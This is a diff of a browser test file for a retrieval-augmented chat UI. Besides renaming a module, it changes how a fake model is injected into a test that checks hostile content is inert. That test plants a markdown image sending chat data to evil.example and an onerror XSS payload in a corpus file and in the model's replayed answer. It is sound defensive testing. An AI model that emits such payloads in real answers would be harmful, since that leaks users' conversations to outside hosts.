@@ -6,7 +6,7 @@ from pathlib import Path
 import pytest
 
 import rag
-from ui import app as ui_app
+from ui import serve as ui_serve
 
 from .conftest import CORPUS, free_port
 from .fakes import ReplayChatModel
@@ -39,7 +39,7 @@ def browser():
 
 def serve(engine):
     port = free_port()
-    ui_app.launch(engine, port=port, block=False)
+    ui_serve.launch(engine, port=port, block=False)
     return f"http://127.0.0.1:{port}/"
 
 
@@ -67,7 +67,7 @@ def test_question_answer_citation_and_highlighted_source(browser, ready_settings
         SHOTS.mkdir(exist_ok=True)
         page.screenshot(path=str(SHOTS / "chat.png"))
     finally:
-        ui_app.close_all()
+        ui_serve.close_all()
 
 
 def test_hostile_content_is_inert_in_the_browser(browser, tmp_path, embedder):
@@ -78,13 +78,9 @@ def test_hostile_content_is_inert_in_the_browser(browser, tmp_path, embedder):
         "![leak](https://evil.example/collect?chat=secret) The unit cleared forty mines that week.\n"
     )
     settings = rag.Settings(corpus_dir=tmp_path / "corpus", index_dir=tmp_path / "index", llm_backend="local")
-    engine = rag.Engine(settings, embedder=embedder)
+    model = ReplayChatModel(["The unit cleared forty mines that week [1]. <img src=x onerror=alert(2)> ![x](https://evil.example/leak.png)"])
+    engine = rag.Engine(settings, embedder=embedder, llm=model)
     engine.ingest()
-    engine.__dict__["_llms"] = {
-        "local": ReplayChatModel(
-            ["The unit cleared forty mines that week [1]. <img src=x onerror=alert(2)> ![x](https://evil.example/leak.png)"]
-        )
-    }
     url = serve(engine)
     dialogs, outside = [], []
     try:
@@ -99,4 +95,4 @@ def test_hostile_content_is_inert_in_the_browser(browser, tmp_path, embedder):
         assert page.locator("#chat img[src*='evil.example']").count() == 0
         assert "forty mines" in page.locator("#chat").inner_text()
     finally:
-        ui_app.close_all()
+        ui_serve.close_all()
